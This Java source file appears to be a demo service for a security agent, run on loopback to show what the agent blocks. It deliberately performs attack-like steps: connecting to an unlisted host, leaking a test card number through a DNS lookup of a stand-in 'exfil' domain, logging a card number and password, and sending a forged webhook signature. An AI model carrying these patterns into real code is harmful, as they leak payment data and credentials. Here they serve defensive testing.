package dev.primus.examples.demo;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.HttpURLConnection;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.net.URL;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Properties;
import java.util.logging.Formatter;
import java.util.logging.Level;
import java.util.logging.LogRecord;
import java.util.logging.Logger;
import java.util.logging.StreamHandler;
import org.apache.catalina.Context;
import org.apache.catalina.connector.Connector;
import org.apache.catalina.startup.Tomcat;

/**
 * An orders service that knows nothing of the agent, for {@code primus-agent.jar demo}: it calls
 * a payments partner and an unlisted host, looks up a name, logs a payment, and serves its API on
 * embedded Tomcat, which it then calls as its clients would. All on loopback. Each step prints
 * one {@code RESULT KEY what happened} line; the demo verb runs it without the agent and with
 * it, and tells the difference.
 *
 * <p>Argument: the folder the demo verb prepared ({@code demo.properties}: the identity
 * provider's key, the issuer, the audience and the Stripe endpoint secret).
 */
public final class DemoService {
    private static final Logger LOG = Logger.getLogger("demo.payments");

    private DemoService() {
    }

    public static void main(String[] args) throws Exception {
        Properties settings = new Properties();
        try (InputStream in = Files.newInputStream(Path.of(args[0], "demo.properties"))) {
            settings.load(in);
        }
        Credentials credentials = new Credentials(settings.getProperty("idp.key"), settings.getProperty("issuer"),
                settings.getProperty("audience"), settings.getProperty("stripe.secret"));
        try (ServerSocket partner = answering("127.0.0.1", "pong from the payments partner");
             ServerSocket unlisted = answering("127.0.0.2", "an unlisted host got the order data")) {
            result("egress.partner", call(partner));
            result("egress.unlisted", call(unlisted));
            result("dns.exfil", lookUp("4111111111111111.exfil.demo.invalid"));
            result("log.line", logPayment());
            Tomcat tomcat = startApi();
            try {
                String base = "http://127.0.0.1:" + tomcat.getConnector().getLocalPort();
                result("auth.none", get(base + "/orders/1042", null));
                result("auth.token", get(base + "/orders/1042", "Bearer " + credentials.accessToken("jane")));
                String event = "{\"type\":\"payment_intent.succeeded\",\"data\":{\"order\":1042}}";
                result("webhook.forged", post(base + "/hooks/stripe", event, "t=1700000000,v1=" + "0".repeat(64)));
                result("webhook.signed", post(base + "/hooks/stripe", event, credentials.stripeSignature(event)));
                List<String> searches = new ArrayList<>();
                for (int i = 0; i < 5; i++) {
                    searches.add(get(base + "/search", null).split(" ")[0]);
                }
                result("ratelimit", String.join(" ", searches));
            } finally {
                tomcat.stop();
                tomcat.destroy();
            }
        }
        System.out.println("DONE");
    }

    private static void result(String key, String what) {
        System.out.println("RESULT " + key + " " + what.replace('\n', ' ').trim());
        System.out.flush();
    }

    /** A server on {@code address} that answers every connection with one line. */
    private static ServerSocket answering(String address, String line) throws IOException {
        ServerSocket server = new ServerSocket();
        server.bind(new InetSocketAddress(InetAddress.getByName(address), 0));
        Thread thread = new Thread(() -> {
            while (!server.isClosed()) {
                try (Socket client = server.accept(); OutputStream out = client.getOutputStream()) {
                    out.write((line + "\n").getBytes(StandardCharsets.UTF_8));
                } catch (IOException closed) {
                    return;
                }
            }
        }, "demo-server-" + address);
        thread.setDaemon(true);
        thread.start();
        return server;
    }

    private static String call(ServerSocket server) {
        String where = server.getInetAddress().getHostAddress() + ":" + server.getLocalPort();
        try (Socket socket = new Socket()) {
            socket.connect(new InetSocketAddress(server.getInetAddress(), server.getLocalPort()), 5000);
            return "connected to " + where + ": " + new String(socket.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
        } catch (Exception e) {
            return "no connection to " + where + ": " + e;
        }
    }

    /** A name that carries a card number to whoever serves the DNS of its domain: the classic exfiltration. */
    private static String lookUp(String name) {
        try {
            return "resolved " + name + " to " + InetAddress.getByName(name).getHostAddress();
        } catch (Exception e) {
            return "lookup of " + name + " failed: " + e;
        }
    }

    /** The line a payment writes, as a handler of the app's own writes it. */
    private static String logPayment() {
        ByteArrayOutputStream written = new ByteArrayOutputStream();
        StreamHandler handler = new StreamHandler(written, new Formatter() {
            @Override
            public String format(LogRecord record) {
                return formatMessage(record) + "\n";
            }
        });
        LOG.setUseParentHandlers(false);
        LOG.addHandler(handler);
        LOG.log(Level.INFO, "order 1042 paid by {0} with card {1}, login password={2}",
                new Object[] {"jane.doe@example.com", "4111 1111 1111 1111", "hunter2"});
        handler.flush();
        LOG.removeHandler(handler);
        return written.toString(StandardCharsets.UTF_8);
    }

    private static Tomcat startApi() throws Exception {
        Tomcat tomcat = new Tomcat();
        tomcat.setBaseDir(Files.createTempDirectory("primus-demo-tomcat").toString());
        Connector connector = new Connector();
        connector.setPort(0);
        connector.setProperty("address", "127.0.0.1");
        tomcat.setConnector(connector);
        Context context = tomcat.addContext("", null);
        Tomcat.addServlet(context, "orders", new OrdersServlet());
        context.addServletMappingDecoded("/*", "orders");
        tomcat.start();
        return tomcat;
    }

    private static String get(String url, String authorization) throws IOException {
        HttpURLConnection connection = (HttpURLConnection) new URL(url).openConnection();
        if (authorization != null) {
            connection.setRequestProperty("Authorization", authorization);
        }
        return answer(connection);
    }

    private static String post(String url, String body, String stripeSignature) throws IOException {
        HttpURLConnection connection = (HttpURLConnection) new URL(url).openConnection();
        connection.setRequestMethod("POST");
        connection.setDoOutput(true);
        connection.setRequestProperty("Content-Type", "application/json");
        connection.setRequestProperty("Stripe-Signature", stripeSignature);
        try (OutputStream out = connection.getOutputStream()) {
            out.write(body.getBytes(StandardCharsets.UTF_8));
        }
        return answer(connection);
    }

    /** {@code STATUS body}, whatever the status. */
    private static String answer(HttpURLConnection connection) throws IOException {
        int status = connection.getResponseCode();
        InputStream body = status < 400 ? connection.getInputStream() : connection.getErrorStream();
        String text = body == null ? "" : new String(body.readAllBytes(), StandardCharsets.UTF_8);
        connection.disconnect();
        return status + " " + text;
    }
}
